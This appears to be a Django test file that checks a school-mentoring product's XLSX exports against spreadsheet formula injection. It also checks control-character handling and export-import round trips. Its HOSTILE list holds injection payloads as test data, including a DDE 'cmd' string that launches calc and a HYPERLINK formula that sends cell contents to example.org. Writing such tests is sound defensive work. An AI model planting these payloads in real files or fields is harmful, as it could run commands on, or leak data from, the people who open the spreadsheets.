"""Every XLSX the product writes keeps typed text as text: no name, competence or request becomes a
formula in a file that a municipality or the region opens (OWASP «CSV injection»)."""

import io
import re
from pathlib import Path

from django.urls import URLResolver, get_resolver, reverse
from openpyxl import load_workbook

from documents.models import OrderKind
from documents.tests.base import DocumentsTestCase
from organizations.models import Organization
from people import exporting, importing
from people.models import Consent, MenteeRequest, MentorProfile, Participant
from people.tests.test_export_participants import sheet
from reports import actions as reports
from utilities import spreadsheets

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = [
    "=1+1", "+7 913 000-00-01", "-2", "@SUM(A1)", "\t=1+1", "\r=1+1",
    '=HYPERLINK("https://example.org/?d="&B3&C3,"Открыть")', "=cmd|' /C calc'!A0", "#N/A",
]
# Every XLSX the product serves, by URL name (a test below finds them all), with the fixture's objects in its URL.
EXPORTS = {"people:export": {}, "people:template": {}, "documents:registry_xlsx": {}, "documents:pairs_xlsx": {},
           "meetings:control_xlsx": {}, "monitoring:export": {"pk": "school_a"}, "reports:xlsx": {"pk": "report_a"}}


def xlsx_urls(patterns=None, prefix: str = ""):
    """"namespace:name" of every URL that ends in .xlsx."""
    for pattern in get_resolver().url_patterns if patterns is None else patterns:
        if isinstance(pattern, URLResolver):
            yield from xlsx_urls(pattern.url_patterns, f"{prefix}{pattern.namespace}:" if pattern.namespace else prefix)
        elif str(pattern.pattern).endswith(".xlsx"):
            yield prefix + pattern.name


def cells(content: bytes) -> list:
    """Every cell of every sheet, read back by openpyxl as Excel would see it."""
    book = load_workbook(io.BytesIO(content))
    return [cell for worksheet in book.worksheets for row in worksheet.iter_rows() for cell in row]


class SpreadsheetTextTests(DocumentsTestCase):
    def setUp(self):
        self.report_a = reports.create_report(organization=self.school_a, year=2025, actor=self.curator_a)

    def export(self, name: str):
        return self.client.get(reverse(name, kwargs={key: getattr(self, value).pk for key, value in EXPORTS[name].items()}))

    def hostile_data(self) -> None:
        """Hostile text in every kind of value an export shows: names, organization, form, competences,
        interests, requests, the representative, the number of an order."""
        for text, participant in zip(HOSTILE, (self.pupil_mentor_a, self.pupil_a), strict=False):
            Participant.objects.filter(pk=participant.pk).update(
                last_name=text, first_name=HOSTILE[-2], middle_name=HOSTILE[2], interests=HOSTILE[4])
        Organization.objects.filter(pk=self.school_a.pk).update(name=HOSTILE[6])
        self.pupil_pupil.name = HOSTILE[3]
        self.pupil_pupil.save()
        MentorProfile.objects.create(participant=self.pupil_mentor_a, source="pupils",
                                     competences=HOSTILE[5]).forms.set([self.pupil_pupil])
        MenteeRequest.objects.create(participant=self.pupil_a, text=HOSTILE[7])
        Consent.objects.filter(participant=self.pupil_a, kind=Consent.Kind.REPRESENTATIVE).update(
            representative_name=HOSTILE[8])
        self.pupil_mentor_a.refresh_from_db()
        self.pupil_a.refresh_from_db()
        self.approved(self.pupil_a, number=HOSTILE[1])
        self.register(self.draft(OrderKind.REGISTRY, self.pupil_mentor_a), number=HOSTILE[0])

    def test_every_xlsx_url_of_the_product_is_in_the_list_checked_here(self):
        self.assertEqual(set(xlsx_urls()), set(EXPORTS))

    def test_every_module_writing_a_workbook_writes_its_cells_through_the_shared_helper(self):
        writers = {path.relative_to(ROOT).as_posix() for path in ROOT.glob("*/**/*.py")
                   if "/tests/" not in path.as_posix() and ".venv" not in path.parts
                   and re.search(r"\bWorkbook\(", path.read_text(encoding="utf-8"))}
        self.assertEqual(writers, {"people/exporting.py", "documents/exporting.py", "meetings/printing.py",
                                   "monitoring/exporting.py", "reports/writing.py", "bench/import_participants.py"})
        for writer in writers - {"bench/import_participants.py"}:
            source = (ROOT / writer).read_text(encoding="utf-8")
            self.assertRegex(source, r"from utilities.spreadsheets import [\w, ]*\brow_cells\b")
            self.assertNotIn("WriteOnlyCell", source)

    def test_no_export_holds_a_formula_and_every_hostile_text_reads_back_as_typed(self):
        self.hostile_data()
        self.login(self.curator_a)
        found = []
        for name in EXPORTS:
            response = self.export(name)
            self.assertEqual(response.status_code, 200, name)
            for cell in cells(response.content):
                self.assertNotIn(cell.data_type, ("f", "e"), f"{name}, {cell.coordinate}: {cell.value!r}")
                if isinstance(cell.value, str) and cell.value.startswith(spreadsheets.FORMULA_STARTS):
                    self.assertTrue(cell.quotePrefix, f"{name}, {cell.coordinate}: {cell.value!r}")
                found.append(cell.value)
        self.assertEqual([text for text in HOSTILE if text not in found], [])  # exactly as typed, no «'» added

    def test_control_characters_pasted_from_word_never_break_an_export(self):
        Participant.objects.filter(pk=self.pupil_a.pk).update(last_name="Ли\x0bВан\x01", interests="шахматы\x0cфизика\x1f")
        self.approved(self.pupil_a)
        self.login(self.curator_a)
        for name in EXPORTS:
            response = self.export(name)
            self.assertEqual(response.status_code, 200, name)
            values = {cell.value for cell in cells(response.content)}
            self.assertFalse({v for v in values if isinstance(v, str) and any(ord(c) < 32 and c != "\n" for c in v)})
        self.assertIn("Ли\nВан", {cell.value for cell in cells(self.client.get(reverse("people:export")).content)})

    def test_an_export_with_formula_like_text_imports_back_unchanged(self):
        self.hostile_data()
        self.login(self.curator_a)
        empty = Organization.objects.create(code="19-01-002", name="МБОУ «СОШ № 2»", kind="school",
                                            parent=self.municipality_a)
        self.pupil_pupil.name = "ученик – ученик"  # the import reads forms by their catalogue names
        self.pupil_pupil.save()
        content = self.client.get(reverse("people:export")).content
        report = importing.import_participants(io.BytesIO(content), organization=empty, actor=self.curator_a)
        self.assertEqual(report.errors, [])
        exported = sheet(content)
        again = sheet(exporting.export_participants(Participant.objects.filter(organization=empty)))
        # Leading tabs and returns are whitespace to the import, as everywhere in a cell.
        typed = [[value.strip() if isinstance(value, str) else value for value in row] for row in exported]
        self.assertEqual(again, typed)
        self.assertEqual({row[0] for row in again[1:]}, {HOSTILE[0], HOSTILE[1]})
